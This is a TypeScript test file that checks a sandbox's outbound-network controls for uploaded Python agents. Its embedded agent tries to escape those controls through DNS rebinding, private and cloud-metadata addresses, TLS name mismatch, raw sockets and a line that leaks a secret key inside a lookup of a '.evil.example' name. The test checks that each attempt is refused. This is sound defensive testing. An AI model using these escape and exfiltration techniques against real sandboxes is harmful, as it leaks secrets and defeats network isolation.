import { ExecutionResult, Problem, RunTrace, UploadReply } from "@stoa/contract";
import { afterAll, beforeAll, beforeEach, expect, test, vi } from "vitest";
import { parseAnswer } from "../../../../tests/harness/client.ts";
import { type ScriptedService, startScriptedService } from "../../../../tests/harness/scripted-service.ts";
import { useTestServer } from "../../../../tests/harness/server.ts";
import { scriptedLookup } from "../../platform/outbound/raw-server.fixture.ts";
import { uploadForm } from "../catalog/catalog-server.fixture.ts";

// Real sandboxes need time on a busy machine.
vi.setConfig({ testTimeout: 120_000 });

/** The test's own service is at 127.0.0.1, which its operator allows. Every other address here is refused. */
const PUBLIC = "127.0.0.1";
const NAMES: Record<string, (string | string[])[]> = {
  "api.shop.example": [PUBLIC],
  "xn--bcher-kva.example": [PUBLIC],
  "a.wild.example": [PUBLIC],
  "rebinding.example": [PUBLIC, "10.0.0.7"],
  "private.example": ["10.0.0.7"],
  "metadata.example": ["169.254.169.254"],
  "mixed.example": [[PUBLIC, "192.168.0.1"]],
  "six.example": ["::ffff:10.0.0.7"],
};
const DECLARED = ["*.wild.example", ...Object.keys(NAMES).filter((name) => name !== "a.wild.example")];

let service: ScriptedService;
const { lookup, asked } = scriptedLookup(NAMES);
beforeAll(async () => {
  service = await startScriptedService([...Object.keys(NAMES), "undeclared.example"]);
});
const server = useTestServer({
  env: { STOA_OUTBOUND_ALLOW: "127.0.0.1/32" },
  network: () => ({ lookup, ca: service.ca, replacePort: () => service.port }),
});
afterAll(() => service.close());
beforeEach(() => {
  service.requests.splice(0);
  asked.splice(0);
  service.answer(({ path }) =>
    path === "/redirect"
      ? { status: 302, headers: { location: "https://undeclared.example/next" } }
      : { status: 200, body: "REACHED" },
  );
});

/** An agent that makes each of these attempts once, and returns the results. */
const SOURCE = `import os, socket, ssl, urllib.request
import stoa

def get(url):
    return urllib.request.urlopen(url, timeout=10).read().decode()

def tls(address, name):
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    with context.wrap_socket(socket.create_connection((address, 443), 10), server_hostname=name) as secure:
        secure.sendall(f"GET / HTTP/1.1\\r\\nhost: {name}\\r\\nconnection: close\\r\\n\\r\\n".encode())
        return secure.recv(10).decode()

def send(kind, address, port):
    with socket.socket(socket.AF_INET, kind[0], kind[1]) as client:
        client.settimeout(1)
        client.sendto(b"x" * 20, (address, port))
        return "REACHED " + str(client.recv(10))

TRIES = {
    "a declared host": lambda: get("https://api.shop.example/"),
    "a wildcard": lambda: get("https://a.wild.example/"),
    "punycode": lambda: get("https://xn--bcher-kva.example/"),
    "the first answer of a rebinding name": lambda: get("https://rebinding.example/"),
    "its second answer": lambda: get("https://rebinding.example/"),
    "a private address": lambda: get("https://private.example/"),
    "the metadata address": lambda: get("http://metadata.example/"),
    "a public and a private address": lambda: get("https://mixed.example/"),
    "a private address within an IPv6 address": lambda: get("https://six.example/"),
    "the name above a wildcard": lambda: get("https://wild.example/"),
    "letters that differ from a declared name": lambda: get("https://xn--bcher-kvb.example/"),
    "a redirect to an undeclared host": lambda: get("https://api.shop.example/redirect"),
    "TLS to another name": lambda: tls("api.shop.example", "undeclared.example"),
    "a port that is not declared": lambda: socket.create_connection(("api.shop.example", 5432), 5),
    "data in a name": lambda: socket.gethostbyname(os.environ["SHOP_KEY"] + ".evil.example"),
    "a name of 255 bytes": lambda: socket.gethostbyname(".".join(["a" * 60] * 4)),
    "an IPv4 address": lambda: get("https://93.184.216.34/"),
    "an IPv6 address": lambda: get("https://[2606:2800:220:1::1]/"),
    "UDP": lambda: send((socket.SOCK_DGRAM, 0), "93.184.216.34", 53),
    "ICMP": lambda: send((socket.SOCK_DGRAM, socket.IPPROTO_ICMP), "93.184.216.34", 0),
    "a raw socket": lambda: send((socket.SOCK_RAW, socket.IPPROTO_ICMP), "93.184.216.34", 0),
}

@stoa.agent(hosts=${JSON.stringify(DECLARED)})
def run(message: str):
    if message == "Hello":
        return "hi"
    results = {}
    for name, action in TRIES.items():
        try:
            results[name] = str(action())
        except Exception as error:
            results[name] = f"{type(error).__name__}: {error}"
    return results
`;

const NOT_FOUND = /Name or service not known/;
const DENIED = /ACCESS_DENIED/;
const UNREACHABLE = /Network is unreachable/;
/** The expected result of each attempt. The first four are allowed. */
const ENDS: Record<string, RegExp> = {
  "a declared host": /^REACHED$/,
  "a wildcard": /^REACHED$/,
  punycode: /^REACHED$/,
  "the first answer of a rebinding name": /^REACHED$/,
  "its second answer": DENIED,
  "a private address": DENIED,
  "the metadata address": /403/,
  "a public and a private address": DENIED,
  "a private address within an IPv6 address": DENIED,
  "the name above a wildcard": NOT_FOUND,
  "letters that differ from a declared name": NOT_FOUND,
  "a redirect to an undeclared host": NOT_FOUND,
  "TLS to another name": DENIED,
  "a port that is not declared": /refused|Permission denied/,
  "data in a name": NOT_FOUND,
  "a name of 255 bytes": NOT_FOUND,
  "an IPv4 address": UNREACHABLE,
  "an IPv6 address": UNREACHABLE,
  UDP: UNREACHABLE,
  ICMP: /Protocol not supported/,
  "a raw socket": /Socket type not supported/,
};
/** A key that looks like part of a host name: some services put a key into the host name of each customer. */
const KEY = "SK-LIVE-4F9A1C77D2E0";

test("a run reaches only the hosts that it declares, and its trace says why the others were refused", async () => {
  const { client } = server();
  const { token } = await client.register();
  const form = uploadForm({ file: { name: "shop.py", content: SOURCE } });
  const uploaded = await client.call("POST", "/api/v1/agents/upload", { token, form });
  expect(uploaded.status, JSON.stringify(uploaded.body)).toBe(201);
  const { agent } = parseAnswer(UploadReply, uploaded);
  const secrets = { secrets: { SHOP_KEY: KEY } };
  await client.call("PUT", `/api/v1/agents/${agent.id}/secrets`, { token, json: secrets });
  const body = { agent_id: agent.id, input_data: { message: "try" } };
  const answer = await client.post("/api/v1/execute/run", body, { token });
  const { agent_output, run_id } = parseAnswer(ExecutionResult, answer);
  const results = agent_output as Record<string, string>;
  expect(Object.keys(results)).toEqual(Object.keys(ENDS));
  for (const [name, end] of Object.entries(ENDS)) expect(results[name], name).toMatch(end);
  // The name is resolved once per connection, so that the checked address is the one that is used.
  expect(asked.filter((name) => name === "rebinding.example")).toHaveLength(2);
  expect(asked.filter((name) => !DECLARED.includes(name))).toEqual(["a.wild.example"]);
  expect(service.requests.map(({ host }) => host)).toEqual([
    "api.shop.example",
    "a.wild.example",
    "xn--bcher-kva.example",
    "rebinding.example",
    "api.shop.example",
  ]);
  const seen = await client.get(`/api/v1/execute/runs/${run_id}/trace`, { token });
  const { entries } = parseAnswer(RunTrace, seen);
  const refused = entries.flatMap((entry) =>
    entry.type === "connection" && entry.outcome === "refused" ? [`${entry.host}: ${entry.reason}`] : [],
  );
  const undeclared = ": The agent does not declare this host.";
  expect(refused).toEqual(
    expect.arrayContaining([
      expect.stringMatching(/^rebinding\.example: .*private network/),
      expect.stringMatching(/^private\.example: .*private network/),
      expect.stringMatching(/^metadata\.example: .*private network/),
      expect.stringMatching(/^mixed\.example: .*private network/),
      "api.shop.example: The TLS ClientHello names another host.",
      `wild.example${undeclared}`,
      `undeclared.example${undeclared}`,
      `********.evil.example${undeclared}`,
    ]),
  );
  expect(JSON.stringify(seen.body).toUpperCase()).not.toContain("4F9A1C");
});

test.each([
  ["a name of more than 253 bytes", `${"a.".repeat(127)}example`, "is not the name of a host"],
  ["a label of 64 bytes", `${"a".repeat(64)}.example`, "is not the name of a host"],
  ["an address as a number", "2130706433", "is an IP address. Declare the name of a host."],
  ["a name of this machine", "localhost", "is not the name of a public host"],
  ["a wildcard in the middle", "a.*.example.com", "is not the name of a host"],
  ["all names of a top-level domain", "*.com", "is not the name of a public host"],
  [
    "a wildcard with a port",
    "*.example.com:5432",
    "Declare each host that needs this port by its full name.",
  ],
  [
    "a port of mail servers",
    "example.com:25",
    "Port 25 cannot be used. A host can be declared with any port from 1 to 65535 except",
  ],
  ["punycode of nothing", "xn--.example.com", "is not the name of a host"],
])(
  "an upload that declares %s is refused with the line number and the reason",
  async (_what, host, reason) => {
    const { client } = server();
    const { token } = await client.register();
    const content = `STOA_HOSTS = [${JSON.stringify(host)}]\n\ndef run(message: str) -> str:\n    return message\n`;
    const form = uploadForm({ file: { name: "agent.py", content } });
    const answer = await client.call("POST", "/api/v1/agents/upload", { token, form });
    expect(answer.status).toBe(400);
    const check = parseAnswer(Problem, answer).checks?.find(({ name }) => name === "network");
    expect(check).toMatchObject({ status: "failed", line: 1, detail: expect.stringContaining(reason) });
  },
);

test.each([
  ["PATH", "PATH is reserved, because it is a system variable of the sandbox"],
  ["LD_PRELOAD", "LD_PRELOAD is reserved, because it changes how programs are loaded"],
])("an upload that declares a secret named %s is refused with the reason", async (name, reason) => {
  const { client } = server();
  const { token } = await client.register();
  const content = `# /// script\n# [tool.stoa]\n# secrets = ["${name}"]\n# ///\ndef run(message: str) -> str:\n    return message\n`;
  const form = uploadForm({ file: { name: "agent.py", content } });
  const answer = await client.call("POST", "/api/v1/agents/upload", { token, form });
  expect(answer.status).toBe(400);
  const check = parseAnswer(Problem, answer).checks?.find((each) => each.name === "secrets");
  expect(check).toMatchObject({ status: "failed", detail: expect.stringContaining(reason) });
});
